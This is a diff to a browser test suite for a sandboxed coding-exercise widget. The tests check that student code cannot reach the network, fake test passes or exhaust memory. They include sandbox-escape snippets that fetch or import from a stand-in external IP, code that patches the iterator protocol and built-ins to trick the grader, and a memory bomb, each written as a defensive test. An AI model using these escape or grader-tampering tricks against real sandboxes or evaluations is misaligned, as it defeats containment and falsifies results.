@@ -10,11 +10,13 @@ import {join, resolve} from "node:path";
 import type {Page} from "playwright-core";
 import {afterAll, beforeAll, describe, expect, test} from "vitest";
 import {loadExercises, toClientExercise} from "../src/exercises.js";
-import {type BookSession, startBook} from "./browser/harness.js";
+import {bundleBrowserWorker} from "../src/sandboxBundle.js";
+import {type BookSession, type PageReport, startBook} from "./browser/harness.js";
 
 let dir: string;
 let book: BookSession;
 let page: Page;
+let report: PageReport;
 const {exercises} = loadExercises("chapters/exercises");
 const mse = exercises.find((e) => e.id === "mse")!;
 
@@ -25,11 +27,12 @@ beforeAll(async () => {
   writeFileSync(join(dir, "entry.ts"), `
 import {Exercise} from ${JSON.stringify(resolve("components/widgets/Exercise.ts"))};
 const main = document.getElementById("main")!;
-main.append(Exercise(${JSON.stringify(spec)}, {solutions: true}));
+main.append(Exercise(${JSON.stringify(spec)}, {solutions: true, sandboxUrl: "./sandbox-worker.js"}));
 main.append(Exercise(${JSON.stringify(bad)} as any, {solutions: false}));
 (window as any).ready = true;
 `);
   await build({entryPoints: [join(dir, "entry.ts")], bundle: true, format: "esm", outfile: join(dir, "app.js"), logLevel: "silent", nodePaths: [resolve("node_modules")]});
+  writeFileSync(join(dir, "sandbox-worker.js"), bundleBrowserWorker());
   writeFileSync(join(dir, "index.html"), `<!doctype html><meta charset="utf-8"><title>exercise</title><main id="main"></main><script type="module" src="./app.js"></script>`);
   book = await startBook(dir);
 }, 120_000);
@@ -56,6 +59,7 @@ describe("Exercise widget in Chromium", () => {
   test("shows the prompt, the starter code, a clear error for a bad spec", async () => {
     const opened = await book.open("/", {waitFor: "#exercise-mse .cm-content"});
     page = opened.page;
+    report = opened.report;
     expect(await page.locator("#exercise-mse .gb-ex-title").innerText()).toBe("练习：均方误差 MSE");
     expect(await page.locator("#exercise-mse .katex").count()).toBeGreaterThan(0);
     expect(await page.locator("#exercise-mse .cm-content").innerText()).toContain("function mse(y, yHat)");
@@ -92,9 +96,47 @@ describe("Exercise widget in Chromium", () => {
   });
 
   test("student code sees no network API and its console output is shown", async () => {
-    await setCode("console.log([typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof importScripts, typeof EventSource, typeof self.fetch, typeof globalThis.XMLHttpRequest].join(' '));\nfunction mse() { return 0; }");
+    await setCode("console.log([typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof importScripts, typeof EventSource, typeof self, typeof globalThis.XMLHttpRequest, typeof WorkerGlobalScope, typeof FontFace, typeof postMessage].join(' '));\nfunction mse() { return 0; }");
     await run();
-    expect(await page.locator("#exercise-mse .gb-ex-output").innerText()).toBe("undefined undefined undefined undefined undefined undefined undefined");
+    expect(await page.locator("#exercise-mse .gb-ex-output").innerText()).toBe(Array(10).fill("undefined").join(" "));
+  });
+
+  test("reaching for the worker's network (prototype fetch, import(), FontFace) fails and requests nothing", async () => {
+    for (const trick of [
+      "WorkerGlobalScope.prototype.fetch.call(self, 'http://198.51.100.7/x')",
+      "import('http://198.51.100.7/m.js')",
+      "new FontFace('x', 'url(http://198.51.100.7/f.woff2)').load()",
+      "globalThis.constructor.constructor('return fetch')()('http://198.51.100.7/y')"
+    ]) {
+      await setCode(`function mse(y, yHat) { try { ${trick}; } catch (e) { console.log("refused: " + e.name); } return 0; }`);
+      const s = await run();
+      expect(s, trick).toMatch(/通过 2 \/ 4 个测试/);
+      expect(await page.locator("#exercise-mse .gb-ex-output").innerText(), trick).toMatch(/^refused: (ReferenceError|TypeError)/);
+    }
+    // Nothing was requested from another host (the recorder sees the page's and its workers' requests).
+    expect(report.externalRequests).toEqual([]);
+    expect(report.failedRequests).toEqual([]);
+  });
+
+  test("patching the iterator protocol or the inputs cannot fake a pass", async () => {
+    // Before: every for…of in the tests ran zero assertions. Now the tests live in another runtime.
+    await setCode("Object.getPrototypeOf([][Symbol.iterator]()).next = function () { return {done: true}; };\nArray.prototype.every = () => true; Math.abs = () => 0;\nfunction mse(y, yHat) { for (let i = 0; i < y.length; i++) y[i] = yHat[i]; return 0; }");
+    const s = await run();
+    // Same as plain `return 0`: "identical → 0" and the symmetry test.
+    expect(s).toMatch(/通过 2 \/ 4 个测试，可见测试得分 1 \/ 2/);
+  });
+
+  test("a memory bomb is stopped by the engine's memory limit and the page stays usable", async () => {
+    await setCode("var a = [];\nfunction mse() { while (true) a.push(new Float64Array(1e7).fill(1.5)); }");
+    const s = await run();
+    expect(s).toMatch(/运行失败|超时/);
+    expect(await page.evaluate(() => 1 + 1)).toBe(2);
+  });
+
+  test("a syntax error names its line and column", async () => {
+    await setCode("function mse(y, yHat) {\n  return y +* yHat;\n}");
+    await run();
+    expect((await page.locator("#exercise-mse .gb-ex-fail").allInnerTexts()).join("\n")).toMatch(/line 2:\d+: SyntaxError/);
   });
 
   test("hints open one at a time; the solution is there when built with solutions", async () => {
